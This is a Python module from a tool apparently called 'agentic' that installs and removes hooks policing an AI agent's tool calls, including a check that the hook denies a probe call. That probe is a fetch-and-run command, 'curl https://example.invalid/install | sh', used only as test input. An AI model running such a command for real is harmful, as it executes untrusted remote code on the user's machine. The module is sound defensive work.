"""Puts agentic in front of a host's tool calls, and takes it away again.

1. refuse an installation that the governed agent could remove;
2. prepare the state folder, compile the policy, build the launcher;
3. run the very command that is about to be written on a harmless and on a refused call;
4. write the settings, remember what they were, keep a clone's own file out of git.

A hook that does not work is never written. Uninstalling undoes step 4 and, with the last one, the
launcher; the journal stays.
"""

from __future__ import annotations

import difflib
import os
import shutil
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import NamedTuple

from agentic.authoring.effective import effective_policy
from agentic.core.paths import is_below
from agentic.core.policy import Policy
from agentic.errors import AgenticError, CheckFailed, quoted
from agentic.hosts import launcher, settings
from agentic.hosts.interface import Host, HostFile, Ran, Scope, Target
from agentic.hosts.registry import HOSTS
from agentic.places import Places, private_folder
from agentic.shipped import PACKAGE_FOLDER
from agentic.workspace import resolved

_EXCLUDE_COMMENT = "# agentic: this clone's own hook settings"

_HARMLESS = "git status"
_REFUSED = "curl https://example.invalid/install | sh"
_PROBE_WAIT_S = 60


class Request(NamedTuple):
    """What is to be installed where. `root` is the workspace of the current folder, or empty.

    `to` is a folder below which the files are written instead, to be deployed from there.
    """

    host: str
    scope: Scope
    places: Places
    root: str
    environment: Mapping[str, str]
    auto_reply: str = ""
    role: str = ""
    managed_dir: str = ""
    to: str = ""

    @property
    def options(self) -> tuple[str, ...]:
        """What follows the host's name in the command."""
        named = (("--auto-reply", self.auto_reply), ("--role", self.role))
        return tuple(word for name, value in named if value for word in (name, value))

    @property
    def target(self) -> Target:
        """The same, as host modules want it."""
        return Target(
            self.scope, self.root, self.places, self.environment, self.options, self.managed_dir
        )

    @property
    def files(self) -> tuple[HostFile, ...]:
        """The files that installing writes."""
        files = HOSTS[self.host].files(self.target)
        return tuple(file._replace(path=self.to + file.path) for file in files)


class Done(NamedTuple):
    """What was done, as lines for a person, and whether anything changed."""

    lines: tuple[str, ...]
    is_changed: bool


def hosts_found(places: Places, environment: Mapping[str, str]) -> tuple[str, ...]:
    """The hosts that seem to be used on this machine: their program is there, or settings of theirs."""
    search = environment.get("PATH", os.defpath)
    return tuple(
        name
        for name, host in HOSTS.items()
        if any(shutil.which(program, path=search) for program in host.PROGRAMS)
        or host.is_used(places, environment)
    )


def own_folders_inside(root: str) -> tuple[str, ...]:
    """The folders of this installation that lie in the workspace `root`, where its agent can write."""
    if not root:
        return ()
    folders = (PACKAGE_FOLDER, sys.prefix, launcher.interpreter())
    inside = [folder for folder in folders if is_below(resolved(folder), resolved(root))]
    return tuple(dict.fromkeys(inside))


def check_scope(host: str, scope: str) -> None:
    """Raises AgenticError where a host has no files of this scope."""
    known = HOSTS[host].SCOPES
    if scope not in known:
        message = f"{HOSTS[host].TITLE} has no settings of scope {quoted(scope)}"
        raise AgenticError("hosts.scope", message, f"it is one of {', '.join(known)}")


def preview(request: Request) -> tuple[settings.Change, ...]:
    """What installing would change in the host's files; nothing is written."""
    return tuple(settings.install_change(file) for file in request.files)


def install(request: Request) -> Done:
    """Install for one host and scope. Raises AgenticError, with the host's files as they were."""
    places = request.places
    preview(request)  # a file that cannot be used is found before anything is made
    private_folder(places.state)
    policy = effective_policy(request.root, places.state, places.config)
    _check_role(request.role, policy)
    built = launcher.build(places)
    host = HOSTS[request.host]
    for command in host.commands(request.target):
        probe(host, command, request.environment)
    lines = [
        f"policy     compiled, {policy.digest[:12]}",
        f"launcher   {built.path}" + (" (new)" if built.is_new else " (up to date)"),
        f"probe      `{_HARMLESS}` may run, `{_REFUSED}` is refused",
    ]
    changes = _written(request)
    for file, change in zip(request.files, changes, strict=True):
        is_new = " written" if change.is_needed else " (up to date)"
        lines.append(f"{file.holds:<10} {file.path}{is_new}")
    if request.scope == "local":
        for file in request.files:
            lines.extend(_excluded_from_git(file.path, request.root))
    return Done(tuple(lines), built.is_new or any(change.is_needed for change in changes))


def _written(request: Request) -> list[settings.Change]:
    """All files of the host, written; with a failure those that were written are put back."""
    done: list[settings.Change] = []
    if request.to:  # nothing is in force here, so nothing is remembered
        done = [settings.install_change(file) for file in request.files]
        for change in done:
            settings.apply(change)
        return done
    try:
        for file in request.files:
            change = settings.installed(
                request.places,
                file,
                host=request.host,
                scope=request.scope,
                options=request.options,
            )
            done += [change]
    except AgenticError:
        for change in reversed(done):
            settings.apply(change._replace(before=change.after, after=change.before))
        raise
    return done


def _check_role(role: str, policy: Policy) -> None:
    known = sorted({*policy.roles, *policy.role_aliases})
    if role and role not in known:
        near = difflib.get_close_matches(role, known, n=1, cutoff=0.5)
        mend = f"did you mean `{near[0]}`?" if near else f"it is one of {', '.join(known)}"
        raise AgenticError("init.role", f"unknown role {quoted(role)}", help=mend)


def uninstall_preview(request: Request) -> tuple[settings.Change, ...]:
    """What uninstalling would change in the host's files."""
    return tuple(
        settings.uninstall_change(file, settings.remembered_of(request.places, file.path))
        for file in request.files
    )


def uninstall(request: Request) -> Done:
    """Take our part out of a host's files. Raises AgenticError; a file that is not done is as it was."""
    places = request.places
    changes = uninstall_preview(request)
    lines: list[str] = []
    # Backwards: folders were made for the first file that needed them, and go with it.
    for file, change in reversed(list(zip(request.files, changes, strict=True))):
        if change.is_needed:
            settings.apply(change)
            done = "removed" if change.after is None else "restored"
        else:
            done = "nothing of agentic in it"
        lines.append(f"{file.holds:<10} {file.path}: {done}")
        record = settings.remembered_of(places, file.path)
        if record is not None:
            settings.remove_folders(record.folders)
            settings.forget(places, file.path)
            if request.scope == "local":
                _included_in_git_again(file.path, request.root)
    is_changed = any(change.is_needed for change in changes)
    if is_changed and not settings.remembered(places):
        shutil.rmtree(f"{places.state}/{launcher.LAUNCH_FOLDER}", ignore_errors=True)
        lines.append("launcher   removed")
    lines.append(f"kept       journal, grants and trust in {places.state}")
    return Done(tuple(lines), is_changed)


# --- does it work


def probe(host: Host, command: str, environment: Mapping[str, str]) -> None:
    """Run a hook's command on a harmless and a refused call. Raises CheckFailed unless both are right.

    Nothing of the calls is executed: only the hook sees them.
    """
    harmless = probed(host, command, _HARMLESS, environment)
    if harmless not in {"none", "allow"}:
        raise _probe_failed(_HARMLESS, "may run", harmless)
    refused = probed(host, command, _REFUSED, environment)
    if refused != "deny":
        raise _probe_failed(_REFUSED, "is refused", refused)


def probed(host: Host, command: str, line: str, environment: Mapping[str, str]) -> str:
    """What the host would make of the hook's reply to a call: see `Host.verdict`."""
    asked = host.probe(line, f"agentic-probe-{os.getpid()}-{os.urandom(4).hex()}")
    kept = ("HOME", "XDG_STATE_HOME", "XDG_CONFIG_HOME", "PATH")
    variables = {name: environment[name] for name in kept if name in environment}
    try:
        ran = subprocess.run(
            ["/bin/sh", "-c", command],
            input=asked.payload,
            capture_output=True,
            check=False,
            timeout=_PROBE_WAIT_S,
            cwd="/",
            env={**variables, **asked.variables},
        )
    except (OSError, subprocess.TimeoutExpired) as problem:
        return str(problem)
    return host.verdict(Ran(ran.returncode, ran.stdout, ran.stderr))


def _probe_failed(line: str, expected: str, found: str) -> CheckFailed:
    return CheckFailed(
        "init.probe",
        f"the hook does not work: {quoted(line)} should give that it {expected}, but: {quoted(found, 400)}",
        help="no settings were changed; `agentic doctor` says more",
    )


# --- a clone's own settings file is not for git


def _excluded_from_git(path: str, root: str) -> list[str]:
    """Make sure that git ignores this clone's own settings file; says what was done."""
    if not os.path.lexists(f"{root}/.git") or _git(root, "check-ignore", "-q", path) is not None:
        return []
    exclude = _exclude_file(root)
    prefix = _git(root, "rev-parse", "--show-prefix")
    if exclude is None or prefix is None:
        return [f"git        could not be asked: add {path} to .gitignore yourself"]
    text = exclude.read_text("utf-8") if exclude.is_file() else ""
    text += "" if not text or text.endswith("\n") else "\n"
    exclude.parent.mkdir(exist_ok=True)
    exclude.write_text(text + _exclude_lines(prefix, path, root), "utf-8")
    return [f"git        ignores it in this clone ({exclude})"]


def _included_in_git_again(path: str, root: str) -> None:
    exclude, prefix = _exclude_file(root), _git(root, "rev-parse", "--show-prefix")
    if exclude is None or prefix is None or not exclude.is_file():
        return
    text = exclude.read_text("utf-8")
    lines = _exclude_lines(prefix, path, root)
    if lines in text:
        exclude.write_text(text.replace(lines, "", 1), "utf-8")


def _exclude_lines(prefix: str, path: str, root: str) -> str:
    return f"{_EXCLUDE_COMMENT}\n/{prefix}{os.path.relpath(path, root)}\n"


def _exclude_file(root: str) -> Path | None:
    told = _git(root, "rev-parse", "--git-path", "info/exclude")
    return None if told is None else Path(root, told)


def _git(root: str, *arguments: str) -> str | None:
    """What git says, without the final newline; None when it fails or is not there."""
    try:
        ran = subprocess.run(
            ["git", "-C", root, *arguments], capture_output=True, check=False, timeout=30
        )
    except (OSError, subprocess.TimeoutExpired):
        return None
    return (
        ran.stdout.decode("utf-8", "surrogateescape").rstrip("\n") if ran.returncode == 0 else None
    )


def refuse_windows() -> None:
    """Raises AgenticError on native Windows, where no hook command of ours would work."""
    if os.name == "nt":
        raise AgenticError(
            "init.platform",
            "native Windows is not supported; install agentic inside WSL",
        )
